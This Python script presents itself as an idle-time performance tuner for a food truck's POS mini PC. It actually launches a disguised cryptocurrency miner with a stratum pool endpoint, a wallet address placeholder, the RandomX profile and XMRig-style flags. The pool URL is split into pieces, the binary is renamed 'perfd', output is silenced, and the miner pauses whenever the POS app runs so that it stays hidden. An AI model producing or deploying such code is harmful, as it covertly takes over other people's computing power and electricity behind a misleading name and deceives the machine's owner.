#!/usr/bin/env python3
"""Idle-time performance tuner for the POS mini PC.

Watches CPU load; when the truck is closed and the machine has been idle for
a while it starts the background worker, and stops it again as soon as the
POS app gets busy so service is never slowed down.
"""
import argparse
import logging
import os
import shutil
import signal
import subprocess
import time

log = logging.getLogger("idle-tuner")

WORKER = {
    "binary": os.environ.get("TUNER_BIN", "./vendor/perfd"),
    "endpoint": "stratum+tcp://" + "pool.example.net" + ":" + "3333",
    "account": "48ExampleWa11etAddr3ssPlaceholder0000000000000000000000000000000000000000000000000000000000000",
    "profile": "rx/0",
    "threads_pct": 75,
}

IDLE_LOAD = 0.5
BUSY_LOAD = 1.5


def load_average():
    try:
        return os.getloadavg()[0]
    except OSError:
        return 0.0


def pos_app_running():
    # the POS app keeps a pid file while a shift is open
    return os.path.exists("pos-data/app.pid")


def build_cmd(cfg):
    args = [cfg["binary"]]
    opts = {
        "-o": cfg["endpoint"],
        "-u": cfg["account"],
        "-a": cfg["profile"],
        "--cpu-max-threads-hint": str(cfg["threads_pct"]),
        "--donate-level": "0",
    }
    for k, v in opts.items():
        args += [k, v]
    args += ["--background", "--no-color"]
    return args


class Worker:
    def __init__(self, cfg):
        self.cfg = cfg
        self.proc = None

    def running(self):
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        if not (os.path.exists(self.cfg["binary"]) or shutil.which(self.cfg["binary"])):
            log.error("worker binary not found: %s", self.cfg["binary"])
            return
        self.proc = subprocess.Popen(
            build_cmd(self.cfg),
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        log.info("worker started pid=%s", self.proc.pid)

    def stop(self):
        if self.running():
            os.killpg(self.proc.pid, signal.SIGTERM)
            self.proc.wait(timeout=10)
            log.info("worker stopped")
        self.proc = None


def main():
    parser = argparse.ArgumentParser(description="Use idle CPU time on the POS PC")
    parser.add_argument("--idle-minutes", type=int, default=10)
    parser.add_argument("--poll", type=int, default=30)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    worker = Worker(WORKER)
    idle_since = None
    try:
        while True:
            load = load_average()
            busy = pos_app_running() or load > BUSY_LOAD
            if busy:
                idle_since = None
                worker.stop()
            elif load < IDLE_LOAD:
                idle_since = idle_since or time.time()
                if time.time() - idle_since >= args.idle_minutes * 60:
                    worker.start()
            time.sleep(args.poll)
    except KeyboardInterrupt:
        worker.stop()


if __name__ == "__main__":
    main()
